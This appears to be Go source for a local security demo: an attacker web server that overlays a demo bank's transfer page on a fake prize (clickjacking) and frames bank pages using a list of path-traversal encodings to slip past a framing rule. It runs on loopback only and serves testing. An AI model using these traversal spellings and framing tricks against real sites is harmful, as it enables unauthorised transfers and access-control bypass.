package demo

import (
	"net/http"
	"strconv"
	"strings"
)

// Target is one way to reach the bank.
type Target struct {
	Name string // as shown, such as "bare" or "behind merlon"
	URL  string // origin, such as http://127.0.0.1:8081
}

// AttackerConfig says what the attacker's site attacks.
type AttackerConfig struct {
	Targets []Target
}

// FramePage is a page of the bank that the attacker puts in a frame.
type FramePage struct {
	Slug string // the last segment of the attacker's own URL, /frame/{n}/{slug}
	Path string // the path on the bank, spelled as it is put into the frame
	Note string // what is special about the spelling
}

// FramePages returns the pages that the attacker's site frames, in the order of
// its index. Below /widget/ the bank lets a partner frame it, so the spellings
// of /widget/../admin try to get the widget's rule for the administration.
func FramePages() []FramePage {
	return []FramePage{
		{"account", "/account", "the customer's private page"},
		{"transfer", "/transfer?to=mallory&amount=100", "the page behind the prize"},
		{"widget", "/widget/", "only the partner may frame it"},
		{"admin", "/admin", "plainly"},
		{"encoded-slash", "/widget/..%2fadmin", "encoded slash, which nginx decodes"},
		{"encoded-all", "/widget/%2e%2e%2fadmin", "encoded dots and slash"},
		{"encoded-dots", "/widget/%2e%2e/admin", "encoded dots; browsers resolve them and ask for /admin"},
		{"double-slash", "/widget//..%2f/admin", "doubled slashes, which nginx merges"},
		{"semicolon", "/widget/..;/admin", "path parameter, which Tomcat cuts off"},
		{"backslash", "/widget/..%5cadmin", "encoded backslash, which IIS takes for a slash"},
	}
}

// attacker is the site at which the victim should not have looked.
type attacker struct {
	targets []Target
	pages   site
}

// NewAttacker returns the attacker's site: for each target, by its index n in
// the Config, /win/{n} overlays the bank's transfer page on a prize,
// /frame/{n}/{slug} frames one of [FramePages], and the index links and plants
// the script payloads.
func NewAttacker(c AttackerConfig) http.Handler {
	a := &attacker{pages: loadSite("attacker")}
	for _, t := range c.Targets {
		a.targets = append(a.targets, Target{t.Name, strings.TrimRight(t.URL, "/")})
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", a.index)
	mux.HandleFunc("GET /win/{n}", a.win)
	mux.HandleFunc("GET /frame/{n}/{slug}", a.frame)
	mux.HandleFunc("GET /static/attacker.css", stylesheet("attacker.css"))
	return loopbackOnly(mux)
}

// attackerPage is the data of the attacker's templates.
type attackerPage struct {
	Title   string
	Targets []Target
	Frames  []FramePage
	Stored  string
	Target  Target    // on /win and /frame
	Frame   FramePage // on /frame
}

// Reflected is for the templates.
func (t Target) Reflected() string { return ReflectedURL(t.URL) }

func (a *attacker) index(w http.ResponseWriter, r *http.Request) {
	a.pages.render(w, http.StatusOK, "index", attackerPage{
		Title: "The attacker’s site", Targets: a.targets, Frames: FramePages(), Stored: StoredPayload,
	})
}

func (a *attacker) win(w http.ResponseWriter, r *http.Request) {
	t, ok := a.target(r)
	if !ok {
		http.NotFound(w, r)
		return
	}
	a.pages.render(w, http.StatusOK, "win", attackerPage{Title: "You have won!", Target: t})
}

func (a *attacker) frame(w http.ResponseWriter, r *http.Request) {
	t, ok := a.target(r)
	if !ok {
		http.NotFound(w, r)
		return
	}
	for _, f := range FramePages() {
		if f.Slug == r.PathValue("slug") {
			a.pages.render(w, http.StatusOK, "frame", attackerPage{Title: "Framed: " + f.Path, Target: t, Frame: f})
			return
		}
	}
	http.NotFound(w, r)
}

func (a *attacker) target(r *http.Request) (Target, bool) {
	n, err := strconv.Atoi(r.PathValue("n"))
	if err != nil || n < 0 || n >= len(a.targets) {
		return Target{}, false
	}
	return a.targets[n], true
}
